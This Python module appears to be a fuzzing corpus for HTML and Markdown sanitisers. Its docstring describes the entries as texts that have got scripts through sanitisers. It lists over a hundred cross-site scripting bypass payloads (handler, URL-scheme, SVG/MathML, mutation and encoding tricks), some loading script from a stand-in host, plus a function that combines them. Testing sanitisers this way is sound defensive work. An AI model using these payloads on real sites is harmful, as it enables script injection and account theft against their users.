"""Texts that have brought scripts through sanitisers of HTML and Markdown; each calls hit() or alert() where it succeeds."""

import random

PAYLOADS: tuple[str, ...] = (
    # plain
    "<script>hit()</script>", "<SCRIPT SRC=//h.example/x.js></SCRIPT>", "<script\n>hit()</script\n>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script/x>hit()</script>", "<script src=data:,hit()></script>", "<<script>hit();//<</script>", "<script>/*</script><img src=x onerror=hit()>*/",
    # handlers
    "<img src=x onerror=hit()>", "<img/src=x/onerror=hit()>", '<img src="x` `<script>hit()</script>"` `>', "<img src=x:x onerror\n=\nhit()>", "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>", "<a onmouseover=hit() href=#>x</a>", "<input autofocus onfocus=hit()>", "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>", "<marquee onstart=hit()>x</marquee>", "<p onclick='hit()'>x</p>", "<td background='javascript:hit()'>x", "<x onclick=hit() tabindex=1 autofocus onfocus=hit()>",
    # addresses
    "[x](javascript:hit())", "[x](JaVaScRiPt:hit())", "[x](  javascript:hit())", "[x](java\tscript:hit())", "[x](&#106;avascript:hit())", "[x](&#x6A;avascript&colon;hit())", "[x](javascript&colon;hit())",
    "[x](\x01javascript:hit())", "[x](data:text/html,<script>hit()</script>)", "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)", "[x](vbscript:hit())", "[x](//h.example/x)", "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:hit()", "<javascript:hit()>", "<a href=javascript:hit()>x</a>", "<a href='java&#10;script:hit()'>x</a>", "<a href=' &#14; javascript:hit()'>x</a>", "<a href=javascript&colon;hit()>x</a>",
    "<a href='http://x' href='javascript:hit()'>x</a>", "![x](javascript:hit())", '![x](x"onerror="hit())', "![](https://h.example/t.png)", '[x](http://x "onmouseover=hit()")', "[x](http://x'onclick='hit())", "<area href=javascript:hit()>",
    "<blockquote cite=javascript:hit()>x</blockquote>", "<form action=javascript:hit()><button>x</button></form>", "<button formaction=javascript:hit()>x</button>", "<isindex action=javascript:hit() type=image>",
    # svg and math
    "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><script href=data:,hit() /></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=hit()> /></svg>", "<svg><foreignObject><iframe src=javascript:hit()></foreignObject></svg>", "<svg><set attributeName=href to=javascript:hit()>", "<math href=javascript:hit()>x</math>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>", "<math><maction actiontype=statusline#http://x xlink:href=javascript:hit()>x</maction></math>",
    # mutation
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=hit() src>'>", "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>", "<p><svg><style><a title='</style><img src=x onerror=hit()>'>", "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'></xmp>", "<template><img src=x onerror=hit()></template>", "<textarea><img title='</textarea><img src=x onerror=hit()>'></textarea>",
    "<title><a title='</title><img src=x onerror=hit()>'>", "<iframe><p title='</iframe><img src=x onerror=hit()>'>", "<noembed><p title='</noembed><img src=x onerror=hit()>'>", "<select><style></select><img src=x onerror=hit()></style>",
    "<table><td><svg><desc><td></desc><title><a id='</title><img src=x onerror=hit()>'>", "<a><b><a><p><a><img src=x onerror=hit()></a>",
    # comments, declarations, encodings
    "<!--><img src=x onerror=hit()>-->", "<!--[if gte IE 4]><script>hit()</script><![endif]-->", "<!-- --!><img src=x onerror=hit()> -->", "<![CDATA[<img src=x onerror=hit()>]]>", "<?xml-stylesheet href=javascript:hit()?>",
    "<?php><img src=x onerror=hit()>?>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=hit()>'>]>&y;", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\u003cscript\u003ehit()\u003c/script\u003e", "＜script＞hit()＜/script＞", "<scr\0ipt>hit()</scr\0ipt>", "<img src=x onerror\x0b=hit()>", "\ufeff<script>hit()</script>",
    # styles, frames, the rest
    "<style>@import '//h.example/x.css';</style>", "<p style='background:url(javascript:hit())'>x</p>", "<p style=position:fixed;inset:0>x</p>", "<link rel=stylesheet href=//h.example/x.css>", "<link rel=import href=data:,hit()>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<base href=javascript:hit()//>", "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>", "<applet code=x></applet>", "<frameset onload=hit()><frame></frameset>", "<portal src=//h.example>", "<dialog open><form method=dialog><button autofocus onfocus=hit()>x</button></form></dialog>",
    # by way of Markdown
    "```<script>hit()</script>\nx\n```", "~~~ {onclick=hit()}\nx\n~~~", "    <script>hit()</script>", "`<script>hit()</script>`", "|a|\n|-|\n|<img src=x onerror=hit()>|", "# <img src=x onerror=hit()>", "> <script>hit()</script>", "* <svg/onload=hit()>",
    "**<img src=x onerror=hit()>**", "[<img src=x onerror=hit()>](http://x)", "[x]: http://x '<script>hit()</script>'\n[x]", "a\n<script>hit()</script>\n===", "<div markdown=1>\n[x](javascript:hit())\n</div>", "\\<script>hit()</script>", "<http://x onclick=hit()>",
    '<a@b.c"onclick="hit()>', "klzzwxh:0000", "\x02klzzwxh:0\x03", "\x02amp\x03lt;script>hit()\x02amp\x03lt;/script>", "{: onclick=hit() }", "x{: onclick=hit() }", "[x](http://x){: onclick=hit() }", "<p id=location><p id=hit name=constructor>", "<a id=document href=http://x>x</a>",
)  # fmt: skip


def mixtures(seed: int, count: int) -> list[str]:
    """Return texts that are put together of several payloads."""
    pick = random.Random(seed)
    between = ("", " ", "\n", "\n\n", "\n\n> ", "`", "*", "\n    ", "<", "](", '"', "'")
    return [pick.choice(between).join(pick.sample(PAYLOADS, pick.randrange(2, 6))) for _ in range(count)]
